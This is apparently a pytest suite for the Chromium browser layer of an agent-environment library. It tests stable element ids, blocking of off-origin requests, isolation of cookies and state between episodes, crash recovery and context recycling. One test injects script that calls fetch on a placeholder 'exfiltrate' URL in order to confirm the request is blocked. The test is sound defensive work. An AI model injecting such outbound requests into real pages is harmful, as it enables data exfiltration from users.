"""The browser layer in a real Chromium: stable ids, blocked off-origin requests, isolated contexts, crashes."""

from __future__ import annotations

import asyncio
import os
import signal

import pytest

import envgym
from envgym.agent import Agent
from envgym.agents.baseline import OracleAgent
from envgym.rollout import run_episode
from envgym.types import Action, Observation, Outcome
from envgym_web.browser import BrowserCrashed
from envgym_web.observe import WebObservation

pytestmark = pytest.mark.browser


def ids(obs: WebObservation) -> dict[str, str]:
    """Element id -> its line (without the id)."""
    out = {}
    for line in obs.text.splitlines():
        if line.startswith("["):
            key, _, rest = line[1:].partition("] ")
            out[key] = rest
    return out


async def test_element_ids_are_stable_across_observations(shop_task) -> None:
    async with envgym.make("web/shop-v1") as env:
        first, _ = await env.reset(task=shop_task)
        again = await env.step(Action.call("scroll", dx=0, dy=10))
        assert ids(again.observation) == ids(first)
        page = env.unwrapped.episode.page
        await page.evaluate("""() => { const p = document.createElement('p'); p.textContent = 'inserted';
                                       document.querySelector('main').prepend(p); }""")
        typed = await env.step(Action.call("fill", element_id="search-input", value="mug"))
        after = ids(typed.observation)
        assert {k: v for k, v in after.items() if k in ids(first) and k != "search-input"} == \
            {k: v for k, v in ids(first).items() if k != "search-input"}
        new = [k for k in after if k not in ids(first)]
        assert len(new) == 1 and after[new[0]] == 'p "inserted"'
        assert 'value="mug"' in after["search-input"]
        reloaded, _ = await env.reset(task=shop_task)  # the same page content gets the same ids again
        assert ids(reloaded) == ids(first)


async def test_off_origin_requests_are_refused_and_recorded(shop_task) -> None:
    async with envgym.make("web/shop-v1") as env:
        await env.reset(task=shop_task)
        episode = env.unwrapped.episode
        outcome = await episode.page.evaluate("""async () => {
            const img = document.createElement('img'); img.src = 'http://192.0.2.1/pixel.png';
            document.body.append(img);
            try { await fetch('http://198.51.100.7/exfiltrate'); return 'reached'; } catch (e) { return 'failed'; }
        }""")
        assert outcome == "failed"
        with pytest.raises(Exception, match="ERR_EMPTY_RESPONSE"):
            await episode.page.goto("http://203.0.113.9/")
        port = int(episode.origin.rsplit(":", 1)[1])
        neighbour = f"http://127.0.0.1:{port + 1 if port < 65535 else port - 1}/"  # another env's server, say
        for url in (neighbour, f"{episode.origin}@192.0.2.5/", episode.origin.replace("http:", "https:") + "/",
                    f"http://localhost:{port}/", "https://example.org/"):
            with pytest.raises(Exception, match="ERR_EMPTY_RESPONSE"):
                await episode.page.goto(url)
        step = await env.step(Action.call("goto", url="https://example.com/"))
        assert "limited to this site" in step.observation.last_action_error
        for _ in range(50):
            if "http://192.0.2.1/pixel.png" in episode.blocked:
                break
            await asyncio.sleep(0.05)
        assert {"http://192.0.2.1/pixel.png", "http://198.51.100.7/exfiltrate", "http://203.0.113.9/", neighbour,
                "http://192.0.2.5/", f"https://127.0.0.1:{port}", f"http://localhost:{port}/",
                "https://example.org:443"} <= set(episode.blocked)


async def test_concurrent_episodes_do_not_share_cookies_or_state(forum_tasks) -> None:
    reply_task, pin_task = forum_tasks  # signed in as different users, on servers sharing the host 127.0.0.1
    async with envgym.make("web/forum-v1") as a, envgym.make("web/forum-v1") as b:
        (obs_a, _), (obs_b, _) = await asyncio.gather(a.reset(task=reply_task), b.reset(task=pin_task))
        user_a = reply_task.initial_state["sign_in"]
        assert f"/u/{user_a}" in obs_a.text and "/u/bob" in obs_b.text and f"/u/{user_a}" not in obs_b.text
        cookies_a = await a.unwrapped.episode.context.cookies()
        cookies_b = await b.unwrapped.episode.context.cookies()
        assert {c["value"] for c in cookies_a}.isdisjoint({c["value"] for c in cookies_b})
        out = await a.step(Action.call("click", element_id="nav-logout"))
        assert "Sign in to EnvForum" in out.observation.text
        still = await b.step(Action.call("goto", url="/"))
        assert "/u/bob" in still.observation.text
        await a.step(Action.call("goto", url="/new"))  # a's app state is its own: b's database is untouched
        assert a.unwrapped.session is not b.unwrapped.session
        (again_a, _), (again_b, _) = await asyncio.gather(a.reset(task=reply_task), b.reset(task=pin_task))
        assert a.unwrapped.episode.recycled and b.unwrapped.episode.recycled  # signed in again, in the same contexts
        assert again_a.text == obs_a.text and again_b.text == obs_b.text


class KillsTheBrowser(Agent):
    name = "killer"

    async def act(self, observation: Observation) -> Action:
        for pid in envgym_web_browser().pids():
            os.kill(pid, signal.SIGKILL)
        await asyncio.sleep(0.5)
        return Action.call("click", element_id="nav-cart")


def envgym_web_browser():
    from envgym_web.browser import shared_browser

    return shared_browser()


async def test_a_killed_browser_is_an_infra_error_and_is_relaunched(shop_task) -> None:
    async with envgym.make("web/shop-v1") as env:
        crashed = await run_episode(env, KillsTheBrowser(), shop_task, seed=0)
        assert crashed.outcome is Outcome.INFRA_ERROR and crashed.error_type == BrowserCrashed.__name__
        recovered = await run_episode(env, OracleAgent(shop_task), shop_task, seed=0)
        assert recovered.outcome is Outcome.SUCCESS and recovered.reward == 1.0


async def test_screenshot_only_when_asked(shop_task) -> None:
    async with envgym.make("web/shop-v1") as env:
        plain, _ = await env.reset(task=shop_task)
        assert plain.screenshot is None
        shot, _ = await env.reset(task=shop_task, options={"screenshot": True})
        pixels = shot.screenshot.array()
        assert pixels.shape == (384, 512, 3) and pixels.dtype.name == "uint8" and pixels.std() > 0
        assert len(shot.screenshot.jpeg_base64) < 100_000


async def test_reset_takes_the_prewarmed_context_and_close_leaves_none(shop_task) -> None:
    browser = envgym_web_browser()
    browser.acquire()  # keeps Chromium up after the env closes, so its contexts can be counted
    try:
        async with envgym.make("web/shop-v1", recycle=False) as env:
            await env.reset(task=shop_task)
            spare = await env.unwrapped._spare
            await env.step(Action.call("fill", element_id="search-input", value="mug"))
            fresh, _ = await env.reset(task=shop_task)
            assert env.unwrapped.episode is spare  # the reset entered the context opened in the background
            assert 'value=""' in ids(fresh)["search-input"]  # and it is a fresh one: nothing carried over
            await env.unwrapped._spare
            assert len((await browser._ensure()).contexts) == 2  # this episode's context and the next spare
        assert (await browser._ensure()).contexts == []
        async with envgym.make("web/shop-v1", prewarm=False, recycle=False) as env:
            await env.reset(task=shop_task)
            assert env.unwrapped._spare is None and len((await browser._ensure()).contexts) == 1
    finally:
        await browser.release()


async def test_the_next_episode_recycles_a_clean_context_and_observes_as_a_fresh_one(shop_task) -> None:
    async with envgym.make("web/shop-v1", screenshot=True) as env:
        fresh, _ = await env.reset(task=shop_task)
        episode = env.unwrapped.episode
        assert not episode.recycled
        await episode.page.evaluate("() => { localStorage.setItem('left', '1'); sessionStorage.setItem('left', '1'); }")
        await episode.context.add_cookies([{"name": "left", "value": "1", "url": episode.origin}])
        await episode.page.evaluate("() => window.open('/cart')")  # a popup the next episode must not find
        await env.step(Action.call("fill", element_id="search-input", value="mug"))
        await env.step(Action.call("hover", element_id="nav-cart"))  # a hovered link draws differently
        again, _ = await env.reset(task=shop_task)
        assert env.unwrapped.episode is episode and episode.recycled  # same context and page, proven clean
        assert again.text == fresh.text and again.screenshot == fresh.screenshot  # the mouse was parked off the page
        assert episode.context.pages == [episode.page]
        assert await episode.page.evaluate("() => [localStorage.length, sessionStorage.length, history.length]") \
            == [0, 0, 1]
        assert [c["name"] for c in await episode.context.cookies()] == []


async def test_a_context_not_proven_clean_is_replaced_by_a_fresh_one(shop_task) -> None:
    browser = envgym_web_browser()
    browser.acquire()
    try:
        async with envgym.make("web/shop-v1") as env:
            fresh, _ = await env.reset(task=shop_task)
            episode = env.unwrapped.episode
            await episode.page.evaluate("() => localStorage.setItem('left', '1')")
            cdp = await episode.cdp()
            send = cdp.send

            async def clearing_fails(method: str, params: dict | None = None) -> dict:
                return {} if method == "Storage.clearDataForOrigin" else await send(method, params)

            cdp.send = clearing_fails  # the storage survives recycling: the next document finds it
            again, _ = await env.reset(task=shop_task)
            assert env.unwrapped.episode is not episode and not env.unwrapped.episode.recycled
            assert again.text == fresh.text
            assert await env.unwrapped.episode.page.evaluate("() => localStorage.length") == 0
            assert (await browser._ensure()).contexts == [env.unwrapped.episode.context]  # the old one is closed
    finally:
        await browser.release()
